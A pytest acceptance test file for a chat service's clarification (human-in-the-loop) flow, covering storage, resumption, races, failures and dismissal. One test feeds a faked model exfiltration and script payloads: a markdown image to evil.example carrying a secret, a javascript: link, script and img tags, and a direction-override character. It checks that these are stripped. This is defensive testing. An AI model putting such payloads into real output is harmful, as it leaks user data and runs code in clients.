"""A question back: asked once, kept, answered once, and lost by nothing that ends the answering turn."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from sqlalchemy import URL

from tests.acceptance.asking import (
    OPTIONS,
    PROMPT,
    QUESTION,
    clarify,
    good,
    hitl_of,
    pending,
    scope_select,
    upload,
)
from tests.acceptance.running import Running, running
from tests.support.chat_client import Client, Stream
from tests.support.fake_llm import close_after, hang_after, reset_after, status, text, tool_call, wait
from tests.support.waiting import until

pytestmark = pytest.mark.asyncio(loop_scope="module")
STORED = f"{PROMPT}\n\nYou can choose:\n- Pump A\n- Pump B"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(postgres_url: URL, valkey_url: str, worker_id: str) -> AsyncIterator[Running]:
    settings = {"llm_idle_seconds": 1.0, "max_runs_per_user": 50}
    async with running(postgres_url, valkey_url, f"clarification_{worker_id}", **settings) as made:
        yield made


async def ask_back(at: Running, client: Client, session_id: str = "s", **fields: Any) -> Stream:
    """A turn that ends with the question."""
    at.llm.decide("grade", clarify(**fields))
    return await client.ask(QUESTION, session_id)


async def counts(at: Running) -> dict[str, int]:
    """What a turn adds to."""
    query = """
    select (select count(*) from runs) runs, (select count(*) from chat_messages) messages,
      (select count(*) from chat_messages where rag_trace is not null) traces,
      (select count(*) from chat_messages where usage is not null) usages
    """
    (row,) = await at.sql(query)
    return {**row._asdict(), "calls": len(at.llm.chats), "grades": len(at.llm.decisions("grade"))}


async def test_a_question_back_ends_the_turn(at: Running, alice: Client):
    await upload(alice)
    seen = await ask_back(at, alice)
    assert seen.types[-4:] == ["trace", "citations", "hitl_request", "done"]
    assert (seen.of("content"), seen.one("citations")["citations"]) == ([], [])
    done, hitl = seen.one("done"), hitl_of(seen)
    assert (done["status"], done["finish_reason"], done["flags"]) == ("completed", "clarification", [])
    assert {**hitl, "id": "x"} == {
        "id": "x",
        "prompt": PROMPT,
        "options": OPTIONS,
        "route": "clarify",
        "retrieval_status": "needs_clarification",
        "original_question": QUESTION,
    }
    trace = seen.one("trace")["rag_trace"]
    assert (trace["hitl_prompt"], trace["hitl_options"], trace["route"]) == (PROMPT, OPTIONS, "clarify")
    question, answer = await alice.messages()
    assert (question["content"], answer["content"]) == (QUESTION, STORED)
    assert (answer["status"], answer["finish_reason"], answer["citations"]) == ("completed", "clarification", [])
    assert answer["usage"] == done["usage"]
    assert await pending(alice) == hitl
    assert len(at.llm.chats) == 1, "no second model call"
    await at.check(turns=1)


async def test_the_awaited_answer_and_a_replay_tell_the_same(at: Running, alice: Client):
    await upload(alice)
    at.llm.decide("grade", clarify())
    body = {"message": QUESTION, "session_id": "s", "client_message_id": "k"}
    answer = (await alice.post("/chat", body)).json()
    assert answer["hitl"] == await pending(alice)
    assert (answer["response"], answer["finish_reason"], answer["citations"]) == (STORED, "clarification", [])
    assert hitl_of(await alice.replay(answer["run_id"])) == answer["hitl"]
    await alice.ask("Pump B")
    assert (await alice.post("/chat", body)).json()["hitl"] == answer["hitl"], "what the turn asked stays its own"
    assert await pending(alice) is None


async def test_f02_the_answer_is_looked_up_and_answered_exactly_once(at: Running, alice: Client):
    await upload(alice)
    asked = await ask_back(at, alice)
    before = await counts(at)
    assert before == {"runs": 1, "messages": 2, "traces": 1, "usages": 1, "calls": 1, "grades": 1}
    seen = await alice.ask("Pump B", hitl_id=hitl_of(asked)["id"])
    assert await counts(at) == {"runs": 2, "messages": 4, "traces": 2, "usages": 2, "calls": 2, "grades": 2}
    trace = seen.one("trace")["rag_trace"]
    assert trace["tool_used"] is True
    assert trace["hitl_resumed"] is True
    assert (trace["hitl_answer"], trace["hitl_resume_strategy"]) == ("Pump B", "targeted_retrieval")
    assert (trace["hitl_resume_from_route"], trace["hitl_resume_from_status"]) == ("clarify", "needs_clarification")
    assert trace["retrieval_stage"] == "hitl_targeted_retrieval"
    assert trace["query"] == f"{QUESTION} Pump B"
    assert trace["hitl_targeted_retrieved_chunks"]
    assert seen.one("done")["finish_reason"] == "stop"
    assert seen.one("citations")["citations"][0]["filename"] == "pump-b.txt"
    used = [one.one("done")["usage"]["input_tokens"] for one in (asked, seen)]
    assert used == [22, 22], "of a model's call and a grade, 11 each"
    assert await pending(alice) is None
    assert at.llm.decisions("plan") == []
    messages = at.llm.chats[-1].messages
    assert [message["role"] for message in messages] == ["system", "user", "assistant", "user", "assistant", "tool"]
    assert [message["content"] for message in messages[1:4]] == [QUESTION, STORED, "Pump B"]
    (call,) = messages[4]["tool_calls"]
    assert call["function"]["name"] == "search_knowledge_base"
    assert messages[5]["content"].startswith("[1] pump-b.txt")
    await alice.ask("And of pump A?")
    plain = [message["role"] for message in at.llm.chats[-1].messages]
    assert plain[:6] == ["system", "user", "assistant", "user", "assistant", "user"], "no old tool message"
    await at.check(turns=3)


@pytest.mark.parametrize("answer", ["Pump B", "pump b", "2", " 2. ", "（２）"])
async def test_an_option_is_named_by_its_text_or_its_number(at: Running, alice: Client, answer: str):
    await upload(alice)
    await ask_back(at, alice)
    seen = await alice.ask(answer)
    assert seen.one("trace")["rag_trace"]["hitl_answer"] == "Pump B"
    assert (await alice.messages())[2]["content"] == answer
    assert seen.one("citations")["citations"][0]["filename"] == "pump-b.txt"


async def test_a_free_answer_is_taken_as_it_is(at: Running, alice: Client):
    await upload(alice)
    await ask_back(at, alice)
    seen = await alice.ask("the one of hall\n 3, 2019\x00")
    assert seen.one("trace")["rag_trace"]["hitl_answer"] == "the one of hall 3, 2019"
    assert seen.one("trace")["rag_trace"]["query"] == f"{QUESTION} the one of hall 3, 2019"


async def test_a_choice_between_documents_narrows_the_search_to_it(at: Running, alice: Client):
    await upload(alice)
    at.llm.decide("grade", scope_select(["pump-a.txt", "pump-b.txt"]))
    asked = await alice.ask(QUESTION)
    hitl = hitl_of(asked)
    assert (hitl["route"], hitl["retrieval_status"]) == ("scope_select", "needs_scope_selection")
    assert hitl["options"] == ["pump-a.txt", "pump-b.txt"]
    seen = await alice.ask("1", hitl_id=hitl["id"])
    chunks = seen.one("trace")["rag_trace"]["retrieved_chunks"]
    assert {chunk["filename"] for chunk in chunks} == {"pump-a.txt"}


async def test_it_may_ask_again_about_the_same_question_three_times_at_most(at: Running, alice: Client):
    await upload(alice)
    first = hitl_of(await ask_back(at, alice))
    at.llm.decide("grade", clarify("Of which year?", ["2019", "2024"]), clarify("Of which hall?", []), clarify())
    second = hitl_of(await alice.ask("2", hitl_id=first["id"]))
    assert (second["prompt"], second["options"], second["original_question"]) == (
        "Of which year?",
        ["2019", "2024"],
        QUESTION,
    )
    assert second["id"] != first["id"]
    assert len(at.llm.chats) == 1, "a question back after a question back costs no call of the answering model"
    stale = await alice.post("/chat", {"message": "1", "session_id": "s", "hitl_id": first["id"]})
    assert (stale.status_code, stale.json()["code"]) == (409, "stale_hitl")
    third = hitl_of(await alice.ask("2024"))
    assert (third["options"], third["original_question"]) == ([], QUESTION)
    assert (await alice.messages())[-1]["content"] == "Of which hall?"
    seen = await alice.ask("Hall 7")
    trace = seen.one("trace")["rag_trace"]
    assert trace["query"] == f"{QUESTION} Pump B; 2024; Hall 7"
    assert (seen.of("hitl_request"), seen.one("done")["finish_reason"]) == ([], "stop")
    assert seen.text.startswith("According to the documents")
    assert await pending(alice) is None
    await at.check(turns=4)


async def test_the_text_that_a_model_wrote_before_stays(at: Running, alice: Client):
    await upload(alice)
    at.llm.script(tool_call("search_knowledge_base", {"query": QUESTION}, content="Let me look it up."))
    seen = await ask_back(at, alice)
    assert seen.text == "Let me look it up."
    assert (await alice.messages())[-1]["content"] == f"{seen.text}\n\n{STORED}"
    assert seen.one("done")["flags"] == []
    await at.check(turns=1)


async def test_a_question_back_in_chinese(at: Running, alice: Client):
    await upload(alice)
    at.llm.decide("grade", clarify(None, OPTIONS))
    body = {"message": "保修期多长?", "session_id": "s"}
    answer = (await alice.post("/chat", body, headers={"Accept-Language": "zh-CN"})).json()
    assert answer["response"] == "请补充以下信息：model of the pump\n\n可选项：\n- Pump A\n- Pump B"


# --- refusals ---


async def test_an_answer_to_another_question_is_refused(at: Running, alice: Client):
    await upload(alice)
    body = {"message": "Pump B", "session_id": "s", "hitl_id": "none"}
    assert (await alice.post("/chat", body)).json()["code"] == "stale_hitl"
    hitl = hitl_of(await ask_back(at, alice))
    before = await counts(at)
    for path in ("/chat", "/chat/stream"):
        refused = await alice.post(path, body)
        assert (refused.status_code, refused.json()["code"]) == (409, "stale_hitl")
    assert (await counts(at), await pending(alice)) == (before, hitl)
    async with at.user() as bob:  # sessions are each user's own: the same name, and nothing waits
        refused = await bob.post("/chat", {**body, "hitl_id": hitl["id"]})
        assert refused.json()["code"] == "stale_hitl"
        assert await pending(bob) is None
        assert (await bob.post("/sessions/s/hitl/dismiss")).status_code == 404
    await alice.ask("Pump B", hitl_id=hitl["id"])
    refused = await alice.post("/chat", {**body, "hitl_id": hitl["id"]})
    assert (refused.status_code, refused.json()["code"]) == (409, "stale_hitl")


async def test_an_answer_that_is_sent_twice_is_one(at: Running, alice: Client):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    body = {"message": "Pump B", "session_id": "s", "hitl_id": hitl["id"], "client_message_id": "k"}
    first = (await alice.post("/chat", body)).json()
    again = await alice.post("/chat", body)
    assert (again.status_code, again.json()) == (200, first), "the key counts before the question that is gone"
    other = await alice.post("/chat", {**body, "message": "Pump A"})
    assert (other.status_code, other.json()["code"]) == (409, "idempotency_conflict")
    await at.check(turns=2)


async def test_a_dismissed_question_waits_no_longer(at: Running, alice: Client):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    answer = await alice.post("/sessions/s/hitl/dismiss")
    assert (answer.status_code, answer.json()["session_id"]) == (200, "s")
    assert (await alice.post("/sessions/s/hitl/dismiss")).status_code == 200
    assert (await alice.post("/sessions/unused/hitl/dismiss")).status_code == 404
    assert await pending(alice) is None
    assert [message["content"] for message in await alice.messages()] == [QUESTION, STORED]
    refused = await alice.post("/chat", {"message": "x", "session_id": "s", "hitl_id": hitl["id"]})
    assert refused.json()["code"] == "stale_hitl"
    seen = await alice.ask("Pump B")
    assert "hitl_resumed" not in seen.one("trace")["rag_trace"]


async def test_a_question_dismissed_while_it_is_being_answered_does_not_come_back(at: Running, alice: Client):
    await upload(alice)
    await ask_back(at, alice)
    at.llm.script(hang_after(2))
    async with alice.stream("Pump B") as stream:
        await stream.until_type("content")
        assert await pending(alice) is None
        assert (await alice.post("/sessions/s/hitl/dismiss")).status_code == 200
        await alice.stop(stream.run_id)
        await stream.end()
    assert await pending(alice) is None


# --- whatever ends the answering turn ---


@pytest.mark.parametrize("seconds", [0, 0.01, 0.1])
async def test_b13_an_answer_and_a_stop_at_once_lose_nothing(at: Running, alice: Client, seconds: float):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    at.llm.decide("grade", wait(0.05, good()))
    at.llm.script(text("It lasts 36 months [1].", delay=0.02))
    async with alice.stream("Pump B", hitl_id=hitl["id"]) as stream:
        assert stream.response.status_code == 200
        assert (await alice.messages())[2]["content"] == "Pump B", "durable before the answer"
        await asyncio.sleep(seconds)
        await alice.stop(stream.run_id)
        await stream.end()
    assert stream.done
    ended = await alice.ended(stream.run_id)
    messages = await alice.messages()
    assert [message["content"] for message in messages[:3]] == [QUESTION, STORED, "Pump B"]
    assert messages[3]["status"] == ended["status"]
    if ended["status"] == "completed":
        assert await pending(alice) is None
    else:
        assert ended["status"] == "stopped"
        assert await pending(alice) == hitl
        again = await alice.ask("2", hitl_id=hitl["id"])
        assert again.one("trace")["rag_trace"]["hitl_answer"] == "Pump B"
        assert await pending(alice) is None
    await at.check()


async def test_b13_of_two_answers_at_once_the_first_one_wins(at: Running, alice: Client):
    await upload(alice)
    for number in range(5):
        session = f"s{number}"
        hitl = hitl_of(await ask_back(at, alice, session))
        before = await counts(at)
        bodies = [{"message": name, "session_id": session, "hitl_id": hitl["id"]} for name in OPTIONS * 3]
        answers = await asyncio.gather(*(alice.post("/chat", body) for body in bodies))
        (won,) = [answer.json() for answer in answers if answer.status_code == 200]
        refused = [answer for answer in answers if answer.status_code != 200]
        assert {answer.status_code for answer in refused} == {409}
        assert {answer.json()["code"] for answer in refused} <= {"run_active", "stale_hitl"}
        chosen = (await alice.messages(session))[2]["content"]
        assert won["rag_trace"]["hitl_answer"] == chosen
        assert await pending(alice, session) is None
        after = await counts(at)
        assert (after["messages"], after["calls"]) == (before["messages"] + 2, before["calls"] + 1)
    await at.check(turns=10)


@pytest.mark.parametrize(
    "broken",
    [reset_after(3), close_after(3), hang_after(3), status(401, {"error": {"message": "no"}})],
    ids=["reset", "cut", "silence", "refused"],
)
async def test_a14_an_answer_that_breaks_off_leaves_the_question_as_it_was(at: Running, alice: Client, broken: Any):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    ((stored,),) = await at.sql("select metadata -> 'pending_hitl' from chat_sessions")
    at.llm.script(broken)
    seen = await alice.ask("Pump B", hitl_id=hitl["id"])
    assert seen.one("done")["status"] == "failed"
    assert seen.one("error")["code"].startswith("provider_")
    assert ((await alice.messages())[-1]["status"], await pending(alice)) == ("failed", hitl)
    assert await at.sql("select metadata -> 'pending_hitl' from chat_sessions") == [(stored,)]
    again = await alice.ask("Pump B", hitl_id=hitl["id"])
    assert again.one("done")["status"] == "completed"
    assert again.one("trace")["rag_trace"]["query"] == f"{QUESTION} Pump B"
    await at.check(turns=3)


async def test_an_interrupted_answer_gives_the_question_to_the_next_message(at: Running, alice: Client):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    at.llm.script(hang_after(2))
    async with alice.stream("Pump A") as stream:
        await stream.until_type("content")
        busy = await alice.post("/chat", {"message": "Pump B", "session_id": "s", "hitl_id": hitl["id"]})
        assert (busy.status_code, busy.json()["code"]) == (409, "run_active")
        seen = await alice.ask("Pump B", hitl_id=hitl["id"], multitask="interrupt")
        await stream.end()
    assert stream.one("done")["status"] == "stopped"
    assert seen.one("trace")["rag_trace"]["query"] == f"{QUESTION} Pump B"
    assert await pending(alice) is None
    await at.check(turns=3)


async def test_an_answering_turn_that_asks_again_and_is_lost_asks_nothing(at: Running, alice: Client):
    await upload(alice)
    hitl = hitl_of(await ask_back(at, alice))
    at.llm.decide("grade", wait(5, clarify("Of which year?", [])))
    async with alice.stream("Pump B") as stream:
        await until(lambda: _true(len(at.llm.decisions("grade")) == 2))
        await alice.stop(stream.run_id)
        await stream.end()
    assert stream.of("hitl_request") == []
    assert await pending(alice) == hitl


async def _true(value: bool) -> bool:
    return value


# --- what is stored, and what a model writes ---


@pytest.mark.parametrize("stored", ['"text"', "{}", '{"id": 7}', "[1]", "null", '{"prompt": "?"}'])
async def test_an_unreadable_stored_question_is_dropped(at: Running, alice: Client, stored: str):
    await upload(alice)
    await ask_back(at, alice)
    await at.sql(f"update chat_sessions set metadata = jsonb_build_object('pending_hitl', '{stored}'::jsonb, 'a', 1)")
    assert await pending(alice) is None
    seen = await alice.ask(QUESTION)
    assert seen.one("done")["status"] == "completed"
    assert "hitl_resumed" not in seen.one("trace")["rag_trace"]
    assert await at.sql("select metadata from chat_sessions") == [({"a": 1},)]


async def test_j10_a_question_back_holds_nothing_that_a_client_fetches_or_runs(at: Running, alice: Client):
    await upload(alice)
    evil = "![x](https://evil.example/?q=secret)"
    at.llm.decide(
        "grade",
        clarify(
            f"Which one?\n\n{evil} <img src=//evil.example/p.png> \u202ehttps://evil.example",
            [evil, "[Pump A](javascript:alert(1))", "Pump\nB <script>", "  ", "Pump B", "[x]: //evil.example/r"],
        ),
    )
    seen = await alice.ask(QUESTION)
    hitl, stored = hitl_of(seen), (await alice.messages())[-1]["content"]
    told = [hitl["prompt"], *hitl["options"]]
    trace = seen.one("trace")["rag_trace"]
    assert [trace["hitl_prompt"], *trace["hitl_options"]] == told
    for part in told:
        assert part == " ".join(part.split())
        assert part
        assert len(part) <= 300
    for active in ("](", "![", "://", "<img", "<script", "javascript:", "\u202e", "[x]:"):
        assert active not in stored
        assert active not in "\n".join(told)


async def test_a_deleted_conversation_leaves_nothing_of_its_question(at: Running, alice: Client):
    await upload(alice)
    await ask_back(at, alice)
    await alice.ask("Pump B")
    assert (await alice.http.delete("/sessions/s")).status_code == 200
    assert await at.sql("select 1 from runs union all select 1 from chat_sessions") == []
    assert await pending(alice) is None
